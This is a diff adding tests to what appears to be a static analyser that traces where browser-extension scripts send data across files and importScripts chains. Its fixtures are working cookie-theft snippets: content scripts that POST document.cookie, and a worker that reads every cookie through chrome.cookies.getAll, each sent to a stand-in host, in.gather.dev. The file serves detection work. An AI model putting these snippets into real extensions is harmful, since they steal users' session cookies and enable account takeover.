@@ -85,6 +85,55 @@ describe('scripts of one background page', () => {
   });
 });
 
+describe('what one script declares and another uses', () => {
+  const sends = (host: string): string =>
+    `fetch(ADDRESS, { method: 'POST', body: document.cookie }); // ${host}`;
+  const twoContent = { content_scripts: [{ matches: ['<all_urls>'], js: ['config.js', 'b.js'] }] };
+  const hosts = (files: Readonly<Record<string, string>>, extra: object): readonly unknown[] =>
+    flowsBetween.whole(files, extra).map(({ host }) => host);
+
+  it('is the address of a request in a content script', () => {
+    const config = `const ADDRESS = 'https://in.gather.dev/a', OTHER = 'https://calm.tides.dev/a';`;
+    assert.deepEqual(hosts({ 'config.js': config, 'b.js': sends('') }, twoContent), [
+      'in.gather.dev',
+    ]);
+  });
+
+  it('is what importScripts brought to a worker, also where that imports in turn', () => {
+    const files = {
+      'worker.js': `importScripts('lib/api.js'); chrome.cookies.getAll({}, (all) => api.send(all));`,
+      'lib/api.js': `importScripts('/lib/host.js');
+        const api = { send(data) { fetch(host(), { method: 'POST', body: JSON.stringify(data) }); } };`,
+      'lib/host.js': `function host() { return 'https://in.gather.dev/a'; }`,
+    };
+    assert.deepEqual(hosts(files, {}), ['in.gather.dev']);
+  });
+
+  it('is strict only where a script says so', () => {
+    const files = {
+      'config.js': `'use strict'; const ADDRESS = 'https://in.gather.dev/a';`,
+      'b.js': `var octal = 010; ${sends('')}`,
+    };
+    assert.deepEqual(hosts(files, twoContent), ['in.gather.dev']);
+  });
+
+  it('is read where another entry uses it too', () => {
+    const files = {
+      'config.js': `const ADDRESS = 'https://in.gather.dev/a';`,
+      'b.js': sends(''),
+      'c.js': `fetch(ADDRESS, { method: 'POST', body: document.cookie });`,
+    };
+    const entries = [
+      { matches: ['https://a.dev/*'], js: ['config.js', 'b.js'] },
+      { matches: ['https://b.dev/*'], js: ['config.js', 'c.js'] },
+    ];
+    assert.deepEqual(hosts(files, { content_scripts: entries }), [
+      'in.gather.dev',
+      'in.gather.dev',
+    ]);
+  });
+});
+
 describe('modules of one service worker', () => {
   const handlers = `export class Handlers {
     async load({ url }) { const answer = await fetch(url); return answer.text(); }
